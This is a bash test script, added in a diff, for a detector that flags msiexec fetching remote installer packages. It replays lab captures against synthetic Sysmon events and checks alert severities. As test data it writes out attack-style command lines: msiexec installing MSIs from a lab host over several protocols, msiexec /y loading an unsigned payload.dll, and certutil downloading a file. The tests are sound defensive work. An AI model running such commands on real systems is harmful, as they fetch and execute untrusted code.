@@ -1,0 +1,184 @@
+#!/bin/bash
+# alerts.sh -- the AN0445 join end to end (issue 5) on the lab recordings
+# (pcaps/lab/, real nginx, Samba and curl traffic) with endpoint events
+# written here in NXLog's im_msvistalog JSON, timed against each capture:
+# alert or no alert, severity, reasons, host, destination and rarity
+# verdict, for HTTP, HTTPS, SMB and WebDAV fetches, a /y DLL with an unsigned
+# module load, an allowlisted server, a destination seen before, events out
+# of order with the endpoint clock 90 s ahead, a network-only chain, an
+# MsiInstaller transaction without a command line, a local install; and a
+# replay that gives the same bytes twice.
+. "$(dirname "$0")/lib.sh"
+
+if [ -z "$(command -v python3)" ]; then
+    skip "alerts end to end" "python3 is not installed (used to time the events against the captures)"
+    done_testing
+    exit 0
+fi
+L=$PCAPS/lab
+HOSTFQDN=WIN10-LAB.lab.msiwatch.test
+
+# first packet time of a capture, seconds (float)
+t0() {
+    python3 -c '
+import struct, sys
+b = open(sys.argv[1], "rb").read(32)
+e = "<" if b[:4] == b"\xd4\xc3\xb2\xa1" else ">"
+s, us = struct.unpack(e + "II", b[24:32])
+print("%.6f" % (s + us / 1e6))' "$1"
+}
+# UtcTime for epoch seconds + offset
+utc() {
+    python3 -c '
+import datetime, sys
+t = float(sys.argv[1]) + float(sys.argv[2])
+print(datetime.datetime.fromtimestamp(t, datetime.timezone.utc).strftime("%Y-%m-%d %H:%M:%S.%f")[:-3])' "$1" "$2"
+}
+# json string escaping of a Windows command line
+js() { python3 -c 'import json, sys; print(json.dumps(sys.argv[1])[1:-1])' "$1"; }
+
+# Sysmon 1: sysmon1 BASE OFFSET GUIDN IMAGE COMMANDLINE [ORIGINALFILENAME]
+sysmon1() {
+    printf '{"EventTime":"2026-11-28 00:00:00","Hostname":"%s","SourceName":"Microsoft-Windows-Sysmon","Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"UtcTime":"%s","ProcessGuid":"{4a1b2c3d-0000-1111-2222-%012d}","ProcessId":"%d","Image":"%s","CommandLine":"%s","OriginalFileName":"%s","ParentProcessGuid":"{4a1b2c3d-0000-1111-2222-000000000001}","ParentProcessId":"4242","ParentImage":"C:\\\\Windows\\\\System32\\\\cmd.exe","User":"LAB\\\\labuser","SourceModuleType":"im_msvistalog"}\n' \
+        "$HOSTFQDN" "$(utc "$1" "$2")" "$3" "$((5000 + $3))" "$(js "$4")" "$(js "$5")" "${6:-msiexec.exe}"
+}
+# Sysmon 3: sysmon3 BASE OFFSET GUIDN DSTIP DSTPORT
+sysmon3() {
+    printf '{"Hostname":"%s","SourceName":"Microsoft-Windows-Sysmon","EventID":3,"UtcTime":"%s","ProcessGuid":"{4a1b2c3d-0000-1111-2222-%012d}","ProcessId":"%d","Image":"C:\\\\Windows\\\\System32\\\\msiexec.exe","Protocol":"tcp","Initiated":"true","SourceIp":"10.77.0.10","SourcePort":"50000","DestinationIp":"%s","DestinationPort":"%s","DestinationHostname":"-","SourceModuleType":"im_msvistalog"}\n' \
+        "$HOSTFQDN" "$(utc "$1" "$2")" "$3" "$((5000 + $3))" "$4" "$5"
+}
+# Sysmon 7: sysmon7 BASE OFFSET GUIDN DLLPATH SIGNED
+sysmon7() {
+    printf '{"Hostname":"%s","SourceName":"Microsoft-Windows-Sysmon","EventID":7,"UtcTime":"%s","ProcessGuid":"{4a1b2c3d-0000-1111-2222-%012d}","ProcessId":"%d","Image":"C:\\\\Windows\\\\System32\\\\msiexec.exe","ImageLoaded":"%s","Signed":"%s","SignatureStatus":"%s","SourceModuleType":"im_msvistalog"}\n' \
+        "$HOSTFQDN" "$(utc "$1" "$2")" "$3" "$((5000 + $3))" "$(js "$4")" "$5" "$([ "$5" = true ] && echo Valid || echo Unavailable)"
+}
+MSIEXEC='C:\Windows\System32\msiexec.exe'
+ALERTQ='[.event.severity, .host.name, (.msiwatch.reasons | join(",")), .destination.ip, .destination.domain, .msiwatch.alert.kind]'
+alerts() { "$MSIWATCH" -s "${STATE:-:memory:}" "$@" 2>"$TMP/err"; }
+
+# 1. HTTP: msiexec /q /i http://10.77.0.20/pkg/setup.msi, its connection, the verified MSI
+T=$(t0 "$L/http-msi.pcap")
+{ sysmon1 "$T" -0.4 11 "$MSIEXEC" 'msiexec.exe /q /i http://10.77.0.20/pkg/setup.msi'
+  sysmon3 "$T" 0.0 11 10.77.0.20 80; } >"$TMP/http.jsonl"
+alerts -r "$L/http-msi.pcap" -e "$TMP/http.jsonl" >"$TMP/a1"
+expect_eq "http: one critical alert on WIN10-LAB, first-seen IP, verified MSI" "$(jq -c "$ALERTQ" "$TMP/a1")" \
+    '[4,"WIN10-LAB.lab.msiwatch.test","remote-url-argument,first-seen-ip,windows-installer-user-agent,payload-msi","10.77.0.20",null,"process"]'
+expect_eq "http: the evidence is the fetch, hashed, joined by the run's own connection" \
+    "$(jq -c '.msiwatch.evidence.network[] | [.url.original, .file.type, .file.hash.sha256, .msiwatch.matched]' "$TMP/a1")" \
+    '["http://10.77.0.20/pkg/setup.msi","msi","df7a0245532689137571a21bc450129bfa2643b3b8241252e676517626f3173a","sysmon3"]'
+expect_eq "http: process, host address, rarity, rule and technique" \
+    "$(jq -c '[.process.entity_id, .process.pid, .host.ip, .msiwatch.rarity.first_seen.ip, .msiwatch.rarity.baseline_complete, .rule.id, .threat.technique.id[0], .event.risk_score]' "$TMP/a1")" \
+    '["4A1B2C3D-0000-1111-2222-000000000011",5011,"10.77.0.10",true,false,"AN0445","T1218.007",95]'
+
+# 2. the same replay twice gives the same bytes
+alerts -r "$L/http-msi.pcap" -e "$TMP/http.jsonl" >"$TMP/a1b"
+check "a replay gives byte-identical alerts on every run" cmp -s "$TMP/a1" "$TMP/a1b"
+
+# 3. allowlisted deployment server: informational, naming the entry
+printf '# lab deployment server\nhost 10.77.0.20\n' >"$TMP/allow"
+alerts -r "$L/http-msi.pcap" -e "$TMP/http.jsonl" --allowlist "$TMP/allow" >"$TMP/a3"
+expect_eq "allowlisted server: severity 0, the entry named, still written" \
+    "$(jq -c '[.event.severity, .msiwatch.allowlisted, (.msiwatch.reasons | index("allowlisted") != null)]' "$TMP/a3")" \
+    '[0,"host 10.77.0.20",true]'
+
+# 4. seen before: --learn from an earlier capture of the same server, then a
+#    fetch from it (port 8080, gzip) hours later is not first-seen: medium
+STATE=$TMP/learn.db
+alerts --learn -r "$L/http-msi.pcap" >"$TMP/learned"
+expect_eq "--learn writes no alerts" "$(grep -c . "$TMP/learned")" 0
+T=$(t0 "$L/http-gzip-msi.pcap")
+sysmon1 "$T" -0.3 12 "$MSIEXEC" 'msiexec /i "http://10.77.0.20:8080/pkg/setup.msi" /qn' >"$TMP/gz.jsonl"
+alerts -r "$L/http-gzip-msi.pcap" -e "$TMP/gz.jsonl" >"$TMP/a4"
+# (the earlier sighting is the server's first answer in the learned capture: its SYN-ACK's flow)
+expect_eq "seen before: medium, not first-seen, the earlier sighting's time" \
+    "$(jq -c '[.event.severity, .msiwatch.rarity.first_seen.ip, .msiwatch.rarity.first_seen_at, .msiwatch.rarity.hosts]' "$TMP/a4")" \
+    '[2,false,"2026-11-28T13:50:35.941133Z",1]'
+# (no Sysmon 3 in this run: the host is inferred from the Windows Installer fetch)
+expect_eq "seen before: the run, its gzip fetch and its reasons" \
+    "$(jq -c '[(.msiwatch.reasons | join(",")), .msiwatch.evidence.network[0].url.original, .msiwatch.evidence.network[0].file.type]' "$TMP/a4")" \
+    '["remote-url-argument,host-inferred-from-fetch,windows-installer-user-agent,payload-msi","http://10.77.0.20:8080/pkg/setup.msi","msi"]'
+unset STATE
+check "the learned state file is readable with sqlite3" \
+    test "$(sqlite3 "$TMP/learn.db" "select count(*) from destinations where kind='ip' and key='10.77.0.20'" 2>/dev/null)" = 1
+
+# 5. events out of order, endpoint clock 90 s ahead: the same verdict
+T=$(t0 "$L/http-msi.pcap")
+{ sysmon3 "$T" 90.0 13 10.77.0.20 80
+  sysmon7 "$T" 90.6 13 'C:\Users\labuser\AppData\Local\Temp\MSI1A2B.tmp' false
+  sysmon1 "$T" 89.6 13 "$MSIEXEC" 'msiexec.exe /q /i http://10.77.0.20/pkg/setup.msi'; } >"$TMP/skew.jsonl"
+alerts -r "$L/http-msi.pcap" -e "$TMP/skew.jsonl" >"$TMP/a5"
+expect_eq "skewed +90 s and out of order: joined, critical, with the module evidence" \
+    "$(jq -c '[.event.severity, (.msiwatch.reasons | join(",")), (.msiwatch.evidence.network | length), .msiwatch.evidence.modules[0].msiwatch.reason]' "$TMP/a5")" \
+    '[4,"remote-url-argument,first-seen-ip,windows-installer-user-agent,payload-msi,unsigned-module-load",1,"unsigned-module-load"]'
+
+# 6. network-only: the Windows Installer fetch of a verified MSI, no events
+alerts -r "$L/http-msi.pcap" >"$TMP/a6"
+expect_eq "network-only chain: one medium alert naming the source as the host" "$(jq -c "$ALERTQ" "$TMP/a6")" \
+    '[2,"10.77.0.10","network-only,first-seen-ip,windows-installer-user-agent,payload-msi","10.77.0.20",null,"network-only"]'
+
+# 7. SMB: msiexec /i \\10.77.0.20\pkgs\setup.msi; the host from NTLMSSP
+T=$(t0 "$L/smb2-msi.pcap")
+sysmon1 "$T" -0.2 14 "$MSIEXEC" 'msiexec /i \\10.77.0.20\pkgs\setup.msi /quiet' >"$TMP/smb.jsonl"
+alerts -r "$L/smb2-msi.pcap" -e "$TMP/smb.jsonl" >"$TMP/a7"
+expect_eq "smb: high (first-seen server), joined by destination from the host NTLMSSP named" \
+    "$(jq -c '[.event.severity, .host.name, (.msiwatch.reasons | join(",")), ([.msiwatch.evidence.network[] | .file.path] | unique)]' "$TMP/a7")" \
+    '[3,"WIN10-LAB.lab.msiwatch.test","unc-argument,first-seen-ip",["\\\\10.77.0.20\\IPC$","\\\\10.77.0.20\\pkgs","\\\\10.77.0.20\\pkgs\\setup.msi"]]'
+
+# 8. WebDAV: the redirector's fetch of \\10.77.0.20\DavWWWRoot\pkg\setup.msi
+T=$(t0 "$L/webdav-msi.pcap")
+sysmon1 "$T" -0.2 15 "$MSIEXEC" 'msiexec /i \\10.77.0.20\DavWWWRoot\pkg\setup.msi' >"$TMP/dav.jsonl"
+alerts -r "$L/webdav-msi.pcap" -e "$TMP/dav.jsonl" >"$TMP/a8"
+expect_eq "webdav: critical, the redirector's GET of the verified MSI joined" \
+    "$(jq -c '[.event.severity, (.msiwatch.reasons | join(",")), ([.msiwatch.evidence.network[] | select(.file.type == "msi") | .url.original])]' "$TMP/a8")" \
+    '[4,"webdav-argument,host-inferred-from-fetch,first-seen-ip,payload-msi",["\\\\10.77.0.20\\DavWWWRoot\\pkg\\setup.msi"]]'
+
+# 9. HTTPS: msiexec /i https://lab.msiwatch.test/...; SNI, first-seen domain
+T=$(t0 "$L/https-msi.pcap")
+sysmon1 "$T" -0.2 16 "$MSIEXEC" 'msiexec /i https://lab.msiwatch.test/pkg/setup.msi /qb' >"$TMP/tls.jsonl"
+alerts -r "$L/https-msi.pcap" -e "$TMP/tls.jsonl" >"$TMP/a9"
+expect_eq "https: high, joined by SNI, first-seen domain" \
+    "$(jq -c '[.event.severity, (.msiwatch.reasons | join(",")), .destination.domain, .msiwatch.evidence.network[0].tls.client.server_name, .msiwatch.rarity.first_seen.domain]' "$TMP/a9")" \
+    '[3,"remote-url-argument,host-inferred-from-fetch,first-seen-domain","lab.msiwatch.test","lab.msiwatch.test",true]'
+
+# 10. /y DLL: no network, an unsigned load from %TEMP% by msiexec
+T=$(t0 "$L/http-msi.pcap")
+{ sysmon1 "$T" 0 17 "$MSIEXEC" 'msiexec /y C:\Users\labuser\AppData\Local\Temp\payload.dll'
+  sysmon7 "$T" 0.3 17 'C:\Users\labuser\AppData\Local\Temp\payload.dll' false
+  sysmon7 "$T" 0.3 17 'C:\Windows\System32\kernel32.dll' true; } >"$TMP/y.jsonl"
+alerts -e "$TMP/y.jsonl" >"$TMP/a10"
+expect_eq "/y DLL: high, the unsigned load as evidence, the signed one not" \
+    "$(jq -c '[.event.severity, (.msiwatch.reasons | join(",")), [.msiwatch.evidence.modules[] | .dll.path], .msiwatch.msiexec.action]' "$TMP/a10")" \
+    '[3,"dll-register-argument,unsigned-module-load",["C:\\Users\\labuser\\AppData\\Local\\Temp\\payload.dll"],"register"]'
+
+# 11. MsiInstaller 1040 and 1042 without a command line (an install through WMI)
+T=$(t0 "$L/http-msi.pcap")
+for code in 1040 1042; do
+    off=$([ $code = 1040 ] && echo -0.5 || echo 3)
+    verb=$([ $code = 1040 ] && echo Beginning || echo Ending)
+    # NXLog's EventTime: local time without a zone (UTC here, --event-utc-offset 0)
+    printf '{"EventTime":"%s","Hostname":"%s","SourceName":"MsiInstaller","Channel":"Application","EventID":%s,"Message":"%s a Windows Installer transaction: http://10.77.0.20/pkg/setup.msi. Client Process Id: 6100.","SourceModuleType":"im_msvistalog"}\n' \
+        "$(utc "$T" "$off" | cut -c1-19)" "$HOSTFQDN" "$code" "$verb"
+done >"$TMP/wmi.jsonl"
+alerts -r "$L/http-msi.pcap" -e "$TMP/wmi.jsonl" >"$TMP/a11"
+expect_eq "MsiInstaller 1040+1042: one installer chain, the fetch joined, critical" \
+    "$(jq -c '[.event.severity, .msiwatch.alert.kind, (.msiwatch.reasons | join(",")), .msiwatch.package]' "$TMP/a11")" \
+    '[4,"installer","msiinstaller-remote-package,remote-url-argument,host-inferred-from-fetch,first-seen-ip,windows-installer-user-agent,payload-msi","http://10.77.0.20/pkg/setup.msi"]'
+
+# 12. a local install, and an uninstall by product code: no alert
+T=$(t0 "$L/http-msi.pcap")
+{ sysmon1 "$T" 600 18 "$MSIEXEC" 'msiexec /i C:\pkgs\setup.msi /qn'
+  sysmon1 "$T" 601 19 "$MSIEXEC" 'msiexec /x {11111111-2222-3333-4444-555555555555} /qn'; } >"$TMP/local.jsonl"
+alerts -e "$TMP/local.jsonl" --stats >"$TMP/a12"
+expect_eq "local install and uninstall by product code: no alert" "$(grep -c . "$TMP/a12")" 0
+expect_eq "...and the counters say why: two records, no chain" \
+    "$(grep '"msiwatch.stats"' "$TMP/err" | jq -c '.msiwatch.stats | [.endpoint.records, .endpoint.msiexec_suspicious, .correlation.chains]')" '[2,0,0]'
+
+# 13. a non-msiexec process fetching the package: no process chain for it
+T=$(t0 "$L/http-msi.pcap")
+sysmon1 "$T" -0.3 20 'C:\Windows\System32\certutil.exe' \
+    'certutil.exe -urlcache -split -f http://10.77.0.20/pkg/setup.msi C:\Users\labuser\x.msi' CertUtil.exe >"$TMP/cu.jsonl"
+alerts -r "$L/http-msi.pcap" -e "$TMP/cu.jsonl" >"$TMP/a13"
+expect_eq "certutil's command line is not an msiexec chain (the capture's Windows Installer fetch stays network-only)" \
+    "$(jq -c '[.msiwatch.alert.kind, .event.severity]' "$TMP/a13" | tr '\n' ' ')" '["network-only",2] '
+
+done_testing
